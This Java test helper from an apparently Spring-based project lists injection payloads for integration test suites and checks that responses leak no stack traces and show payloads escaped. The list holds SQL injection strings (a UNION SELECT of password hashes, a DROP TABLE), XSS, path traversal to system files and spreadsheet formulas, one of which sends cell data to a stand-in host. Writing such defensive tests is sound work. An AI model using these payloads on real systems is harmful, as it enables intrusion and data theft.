package org.tsunagu;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;

import org.springframework.web.util.HtmlUtils;

/**
 * The hostile inputs the injection suites send everywhere ({@link InjectionPayloadsIT},
 * {@link SpreadsheetInjectionIT}). Adding a payload is one line here.
 */
final class InjectionPayloads {

	/** Each kind of attack once or twice; all ASCII so that no normalisation changes them. */
	static final List<String> ALL = List.of(
			// SQL
			"' OR '1'='1", "1; DROP TABLE x--", "\" OR \"\"=\"", "1' UNION SELECT username, password_hash FROM identity_users--",
			// XSS
			"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)//",
			// path traversal, plain and encoded
			"../../etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..\\..\\windows\\win.ini",
			// CSV / spreadsheet formula
			"=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")", "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0");

	/** What an error page or problem must never show: stack traces, exception names, SQL errors. */
	private static final List<String> LEAKS = List.of("Exception", "\tat ", "at org.", "at java.", "org.hibernate",
			"SQLState", "SQL state", "syntax error", "Whitelabel Error Page", "\"trace\"");

	private InjectionPayloads() {
	}

	static Stream<String> all() {
		return ALL.stream();
	}

	static boolean isMarkup(String payload) {
		return payload.contains("<") || payload.contains(">");
	}

	/** The body reveals nothing of the server's inside. */
	static void assertNoLeak(String body) {
		for (String leak : LEAKS) {
			assertThat(body).as("the response reveals \"%s\"", leak).doesNotContain(leak);
		}
	}

	/** An HTML page shows the payload as text: escaped, never as live markup. */
	static void assertShownAsText(String html, String payload) {
		assertThat(html).contains(HtmlUtils.htmlEscape(payload));
		if (isMarkup(payload)) {
			assertThat(html).doesNotContain(payload);
		}
	}
}
